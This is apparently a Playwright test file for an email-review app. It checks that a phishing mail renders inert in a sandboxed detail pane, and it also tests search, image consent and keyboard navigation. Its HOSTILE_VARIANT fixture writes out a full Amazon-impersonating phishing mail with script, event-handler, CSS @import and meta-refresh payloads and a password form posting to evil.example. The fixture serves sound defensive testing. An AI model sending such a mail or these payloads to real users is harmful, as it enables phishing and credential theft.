/**
 * The timeline review (issue 6): the story's events filtered and searched in the core, and the mail behind an
 * event in the detail pane, where a hostile mail must stay inert: no script, no dialog, no request to any host but
 * the app's while it is open, links shown with their real target and opened only through links.open (in the
 * headless shell: the browser's window.open, here a popup that is captured and closed), remote images only for a
 * sender the user allowed.
 */
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { expect, ROOT, test } from './fixtures';
import { ReviewPage } from './pages/ReviewPage';
import { sealedBrowser } from './sink';
import { TimelinePage } from './pages/TimelinePage';

const STORY = path.join(ROOT, 'fixtures/story');
const storyFiles = readdirSync(STORY)
  .filter((f) => f.endsWith('.eml'))
  .map((f) => path.join(STORY, f));

/** The phishing variant: meta refresh, @import, tracker image, script, handlers, form, frame, SVG, background. */
const HOSTILE_VARIANT = [
  'Authentication-Results: mx.google.com;',
  '       spf=pass (google.com: domain of x@amazon.co.jp.account-verify.net designates 198.51.100.7 as permitted sender) smtp.mailfrom=x@amazon.co.jp.account-verify.net;',
  '       dmarc=none header.from=amazon.co.jp.account-verify.net',
  'From: "Amazon.co.jp" <account-update@amazon.co.jp.account-verify.net>',
  'To: user@example.jp',
  'Subject: Amazon: verify your payment details now',
  'Date: Sun, 24 May 2026 09:00:00 +0900',
  'Message-ID: <phish-variant@amazon.co.jp.account-verify.net>',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=UTF-8',
  'Content-Transfer-Encoding: 8bit',
  '',
  '<html><head>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/link.css">',
  '<style>@import url(https://evil.example/x.css); @\\69mport "https://evil.example/y.css";',
  '.hero { background: url("https://evil.example/bg.png") } p { color: #333 }</style>',
  '</head><body background="https://evil.example/body.png" onload="alert(1)">',
  '<p class="hero">お客様の支払い情報を確認してください。</p>',
  '<p><a href="https://www.amazon.co.jp.3f9a1c.info/signin.php?session=abc">https://www.amazon.co.jp/ap/signin</a></p>',
  '<p><a href="javascript:alert(2)">click</a></p>',
  '<img src="https://tracker.example/p.gif" onerror="alert(3)" srcset="https://tracker.example/2x.gif 2x">',
  '<div style="background-image: url(https://evil.example/div.png)">x</div>',
  '<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>',
  '<iframe src="https://evil.example/frame"></iframe>',
  '<svg onload="alert(4)"><image href="https://evil.example/svg.png"/></svg>',
  '<script>alert(5)</script>',
  '</body></html>',
  '',
].join('\r\n');

/** A genuine bank notice with an HTML part carrying a remote logo: built from the story's debit mail. */
function bankMailWithImage(): string {
  const raw = readFileSync(path.join(STORY, '06-rakuten-debit-10000.eml'), 'utf8').replace(/\r\n/g, '\n');
  const split = raw.indexOf('\n\n');
  const headers = raw
    .slice(0, split)
    .replace(/^Message-ID: .*$/m, 'Message-ID: <debit-with-logo@ac.rakuten-bank.co.jp>')
    .replace(/^Date: .*$/m, 'Date: Mon, 25 May 2026 10:00:00 +0900')
    .replace(/^Content-Type: .*$/m, 'Content-Type: multipart/alternative; boundary="b1"')
    .replace(/^Content-Transfer-Encoding: .*\n?/m, '');
  const text = Buffer.from(raw.slice(split + 2).replace(/\s+/g, ''), 'base64').toString('utf8');
  return [
    headers,
    '',
    '--b1',
    'Content-Type: text/plain; charset=UTF-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    text,
    '--b1',
    'Content-Type: text/html; charset=UTF-8',
    'Content-Transfer-Encoding: 8bit',
    '',
    `<html><body><p><img src="https://images.example/logo.png" alt="Rakuten Bank" width="20" height="20"></p><pre>${text}</pre></body></html>`,
    '--b1--',
    '',
  ].join('\n');
}

test('filters and full-text search narrow the story in the core', async ({ page, shell }) => {
  const timeline = new TimelinePage(page);
  const review = new ReviewPage(page);
  await timeline.open(shell.url);
  await timeline.setLocale('en');
  await timeline.importFiles(storyFiles);
  await expect(review.events).toHaveCount(12);
  await expect(page.getByTestId('day-header')).toHaveCount(3);
  // Newest first: the phishing mail of 23 May leads.
  await expect(review.events.first()).toHaveAttribute('data-kind', 'impersonation');

  await review.filter('kind', 'giftcard.opened');
  await expect(review.events).toHaveCount(2);
  await expect(review.count).toHaveText('2 of 12 events match');
  await review.filter('kind', '');

  await review.filter('verdict', 'suspicious');
  await expect(review.events).toHaveCount(1);
  await expect(review.events.first()).toHaveAttribute('data-kind', 'impersonation');
  await review.filter('severity', 'critical');
  await expect(page.getByTestId('review-empty')).toBeVisible();
  await review.clear();
  await expect(review.events).toHaveCount(12);

  await review.filter('severity', 'critical');
  await expect(review.events).toHaveCount(11);
  await review.filter('vendor', 'rakuten-bank.co.jp');
  await expect(review.events).toHaveCount(2);
  await review.clear();

  // An order number: the purchase and the "opened" notice of that card.
  await review.search.fill('250-4444444');
  await expect(review.events).toHaveCount(2);
  await expect(review.event('giftcard.purchased')).toHaveCount(1);
  await expect(review.event('giftcard.opened')).toHaveCount(1);
  // Japanese without spaces, two characters long.
  await review.search.fill('楽天');
  await expect(review.events).toHaveCount(2);
  await expect(review.event('payment.charge')).toHaveCount(2);
  await review.search.fill('開封');
  await expect(review.events).toHaveCount(2);
  await review.search.fill('no such thing anywhere');
  await expect(page.getByTestId('review-empty')).toBeVisible();
  await review.search.fill('');
  await expect(review.events).toHaveCount(12);

  // Oldest first, in Japanese.
  await review.filter('order', 'oldest');
  await expect(review.events.first()).toHaveAttribute('data-kind', 'giftcard.purchased');
  await timeline.setLocale('ja');
  await expect(
    page.getByTestId('filter-kind').locator('option', { hasText: 'ギフトカード開封' }),
  ).toHaveCount(1);
  await review.filter('kind', 'giftcard.opened');
  await expect(review.count).toHaveText('12件中2件が一致');
});

test('the phishing mail is inert in the detail pane, and its link goes out only through links.open', async ({
  shell,
}, testInfo) => {
  // Every host name resolves to the sink: whatever any frame or process asks for is recorded, and fails.
  const sealed = await sealedBrowser();
  try {
    const { page, context, sink } = sealed;
    const timeline = new TimelinePage(page);
    const review = new ReviewPage(page);
    const dialogs: string[] = [];
    page.on('dialog', (d) => {
      dialogs.push(d.message());
      void d.dismiss();
    });
    const origin = new URL(shell.url).origin;
    const outside: string[] = [];
    page.on('request', (r) => {
      if (!r.url().startsWith(origin) && !r.url().startsWith('data:')) outside.push(r.url());
    });
    const variant = testInfo.outputPath('14-phishing-variant.eml');
    writeFileSync(variant, HOSTILE_VARIANT);
    await timeline.open(shell.url);
    await timeline.setLocale('en');
    await timeline.importFiles([...storyFiles, variant]);
    await expect(review.event('impersonation')).toHaveCount(2);

    // The story's phishing mail: <script>, a tracker image, a link to a look-alike host.
    const phish = review.event('impersonation').filter({ hasText: '<img src=x onerror=alert(1)>' });
    await review.open(phish);
    await expect(review.frame).toHaveAttribute('sandbox', '');
    await expect(page.getByTestId('detail-verdict')).toContainText('suspicious');
    await expect(page.getByTestId('detail-reason')).toContainText('amazon.co.jp.account-verify.net');
    const body = review.frameContent();
    await expect(body.locator('body')).toContainText('お支払い方法に問題があります');
    await expect(body.locator('script')).toHaveCount(0);
    await expect(body.locator('img')).toHaveAttribute('src', /^data:image\/svg\+xml,/);
    await expect(body.locator('a[href]')).toHaveCount(0);
    // The link list says where the link really goes.
    await expect(review.links).toHaveCount(1);
    await expect(review.links.first().getByTestId('mail-link-host')).toHaveText(
      'www.amazon.co.jp.3f9a1c.info',
    );
    await expect(page.getByRole('note')).toContainText('failed the sender check');
    // The headers, collapsed until asked for, in order.
    const headers = page.getByTestId('detail-headers');
    await expect(headers).not.toHaveAttribute('open');
    await headers.locator('summary').click();
    await expect(headers.locator('dt').first()).toHaveText('Authentication-Results');
    await headers.locator('summary').click();
    await page.screenshot({ path: path.join(ROOT, 'docs/timeline-detail.png') });

    // The variant: meta refresh, @import (also escaped), <base>, <link>, background, form, iframe, SVG.
    await review.open(review.event('impersonation').filter({ hasText: 'verify your payment details' }));
    const frame = review.frameContent();
    await expect(frame.locator('body')).toContainText('お客様の支払い情報を確認してください');
    for (const selector of [
      'meta[http-equiv="refresh" i]',
      'base',
      'link',
      'form',
      'input',
      'iframe',
      'svg',
      'script',
    ])
      await expect(frame.locator(selector), selector).toHaveCount(0);
    await expect(frame.locator('meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute(
      'content',
      /default-src 'none'.*img-src data:;/,
    );
    const css = (await frame.locator('style').allTextContents()).join('\n');
    expect(css).not.toMatch(/@import|evil\.example|\\69/i);
    // The mail's own harmless styling survives.
    expect(css).toContain('color: #333');
    await expect(frame.locator('body')).not.toHaveAttribute('background');
    await expect(frame.locator('body')).not.toHaveAttribute('onload');
    await expect(frame.locator('div[style*="url("]')).toHaveCount(0);
    await expect(frame.locator('img')).toHaveAttribute('src', /^data:image\/svg\+xml,/);
    await expect(frame.locator('img')).not.toHaveAttribute('srcset');
    await expect(frame.locator('img')).not.toHaveAttribute('onerror');
    // The link text claims amazon.co.jp; the list shows the real host. javascript: is not a link at all.
    await expect(review.links).toHaveCount(1);
    await expect(review.links.first()).toContainText('https://www.amazon.co.jp/ap/signin');
    await expect(review.links.first().getByTestId('mail-link-host')).toHaveText(
      'www.amazon.co.jp.3f9a1c.info',
    );
    await expect(page.getByTestId('images-note')).toContainText('never loaded');
    await expect(page.getByTestId('allow-images')).toHaveCount(0);

    // Give anything that would fire a moment, then prove nothing did, in any frame or process.
    await page.waitForTimeout(1500);
    expect(dialogs).toEqual([]);
    expect(outside).toEqual([]);
    expect(sink.hosts).toEqual([]);

    // Opening the link: the core checks it (links.open), the headless shell hands it back, the browser opens it.
    const popupPromise = context.waitForEvent('page');
    await review.links.first().getByTestId('mail-link-open').click();
    const popup = await popupPromise;
    await expect(page.getByTestId('link-notice')).toHaveText(
      'Opened www.amazon.co.jp.3f9a1c.info in your browser.',
    );
    // The popup went for the real target, and for nothing else.
    await expect.poll(() => sink.hosts).toContain('www.amazon.co.jp.3f9a1c.info:443');
    expect(new Set(sink.hosts)).toEqual(new Set(['www.amazon.co.jp.3f9a1c.info:443']));
    await popup.close();
    expect(outside).toEqual([]);
    // The log has the host, never the query string.
    const log = readFileSync(path.join(shell.dataDir, 'logs/mimamori.log'), 'utf8');
    expect(log).toContain('"host":"www.amazon.co.jp.3f9a1c.info"');
    expect(log).not.toContain('session=abc');
  } finally {
    await sealed.close();
  }
});

test('remote images load only for a sender the user allowed', async ({ shell }, testInfo) => {
  const sealed = await sealedBrowser();
  try {
    const { page, sink } = sealed;
    const timeline = new TimelinePage(page);
    const review = new ReviewPage(page);
    const mail = testInfo.outputPath('15-bank-with-logo.eml');
    writeFileSync(mail, bankMailWithImage());
    await timeline.open(shell.url);
    await timeline.setLocale('en');
    await timeline.importFiles([mail]);
    const event = review.event('payment.charge');
    await expect(event).toHaveCount(1);
    await review.open(event);

    const img = review.frameContent().locator('img');
    await expect(img).toHaveAttribute('src', /^data:image\/svg\+xml,/);
    await expect(page.getByTestId('images-note')).toContainText('Remote images are blocked (1)');
    await page.waitForTimeout(500);
    expect(sink.hosts).toEqual([]);

    await page.getByTestId('allow-images').click();
    await expect(img).toHaveAttribute('src', 'https://images.example/logo.png');
    // The frame asked for it (the sink proves the request left the page; it then failed, as nothing is served).
    await expect.poll(() => sink.hosts).toContain('images.example:443');
    await expect(page.getByTestId('images-note')).toContainText(
      'Images from service@ac.rakuten-bank.co.jp are loaded.',
    );
    // Remembered: closing and opening again keeps them.
    await review.close();
    await review.open(event);
    await expect(img).toHaveAttribute('src', 'https://images.example/logo.png');
    await page.getByTestId('block-images').click();
    await expect(img).toHaveAttribute('src', /^data:image\/svg\+xml,/);
    expect(new Set(sink.hosts)).toEqual(new Set(['images.example:443']));
  } finally {
    await sealed.close();
  }
});

test('keyboard: arrows move between events, Enter opens the mail, Escape closes it; text mail as text', async ({
  page,
  shell,
}) => {
  const timeline = new TimelinePage(page);
  const review = new ReviewPage(page);
  await timeline.open(shell.url);
  await timeline.setLocale('en');
  await timeline.importFiles(storyFiles);
  await expect(review.events).toHaveCount(12);

  await review.list.focus();
  await page.keyboard.press('ArrowDown');
  await expect(review.events.nth(0)).toHaveAttribute('data-active', 'true');
  await page.keyboard.press('ArrowDown');
  await expect(review.events.nth(1)).toHaveAttribute('data-active', 'true');
  await expect(review.events.nth(1)).toBeFocused();
  const id = await review.events.nth(1).getAttribute('data-signal-id');
  await page.keyboard.press('Enter');
  await expect(review.detail).toHaveAttribute('data-signal-id', id ?? '');
  // The story's newest debit is a text mail: shown as text, escaped by React.
  await expect(review.mailText).toContainText('20,000円');
  await expect(review.frame).toHaveCount(0);
  await expect(page.getByTestId('detail-verdict')).toHaveText(
    'genuine: signed by ac.rakuten-bank.co.jp, checked by Gmail',
  );
  await page.keyboard.press('ArrowDown');
  await page.keyboard.press('Enter');
  await expect(review.detail).not.toHaveAttribute('data-signal-id', id ?? '');
  await page.keyboard.press('Escape');
  await expect(review.detail).toHaveCount(0);
  await expect(review.events.nth(2)).toBeFocused();

  await timeline.setLocale('ja');
  await review.events.nth(2).focus();
  await page.keyboard.press('Enter');
  await expect(page.getByTestId('detail-verdict')).toContainText('本物');
  await expect(review.detail.getByRole('heading', { level: 2 })).toHaveText('このイベントのメール');
});
